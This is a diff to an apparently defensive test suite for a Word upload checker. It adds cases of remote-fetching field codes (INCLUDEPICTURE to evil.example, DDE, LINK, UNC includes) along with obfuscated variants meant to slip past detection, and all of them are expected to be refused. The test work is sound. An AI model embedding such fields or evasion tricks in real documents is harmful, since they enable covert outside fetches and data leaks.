@@ -35,6 +35,9 @@ const tornPng = Buffer.concat([
   Buffer.alloc(40, 1),
 ])
 
+const field = (told: string) =>
+  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${told}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
+
 describe('what is refused', () => {
   test.each([
     ['an SVG', 'drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'FileKindRefused'],
@@ -85,6 +88,26 @@ describe('what is refused', () => {
       word({ 'word/x.xml': '<w:instrText>DDEAUTO cmd</w:instrText>' }),
       'FileUnsafe',
     ],
+    ...[
+      field('INCLUDEPICTURE "http://evil.example/i.png" \\d'),
+      field('  includetext "\\\\server\\share\\a.docx"'),
+      field('LINK Excel.Sheet.12 "c:\\a.xlsx"'),
+      field('DATABASE \\d "c:\\a.mdb"'),
+      field('RD "c:\\a.docx"'),
+      field('DDE excel "a"'),
+      field('QUOTE 73 78 67 76 85 68 69'),
+      '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/i.png&quot; "/>',
+      '<w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.example"</w:instrText>',
+      '<w:instrText>&#73;NCLUDEPICTURE "http://evil.example"</w:instrText>',
+      '<w:instrText><![CDATA[INCLUDEPICTURE "http://evil.example"]]></w:instrText>',
+      '<w:instrText><!-- x -->INCLUDEPICTURE "http://evil.example"</w:instrText>',
+      '<w:altChunk r:id="x"/>',
+    ].map((part): [string, string, Buffer, string] => [
+      `outside content: ${part.slice(0, 60)}`,
+      'a.docx',
+      word({ 'word/document2.xml': part }),
+      'FileUnsafe',
+    ]),
     ['a template elsewhere', 'a.docx', related('attachedTemplate', 'http://evil.example/t.dotm'), 'FileUnsafe'],
     ['a picture elsewhere', 'a.docx', related('image', 'http://evil.example/i.png'), 'FileUnsafe'],
     ['a link to a share', 'a.docx', related('hyperlink', 'file://server/share'), 'FileUnsafe'],
@@ -115,6 +138,19 @@ describe('what is refused', () => {
     await expect(check('a.docx', lying)).rejects.toMatchObject({ said: { code: 'FileDamaged' } })
     expect((await check('a.docx', honest)).kind).toBe('docx')
   })
+})
+
+test('fields that fetch nothing are taken', async () => {
+  const parts = [
+    'PAGE',
+    'HYPERLINK "https://kith.example"',
+    'MERGEFIELD Link',
+    'IF 1 = 1 "LINK" "x"',
+    'DATE',
+    'QUOTE "a"',
+  ]
+  const file = word({ 'word/document2.xml': parts.map(field).join('') })
+  expect(await check('a.docx', file)).toMatchObject({ kind: 'docx' })
 })
 
 test('an ordinary Word file with a link to click, a text and a table are taken', async () => {
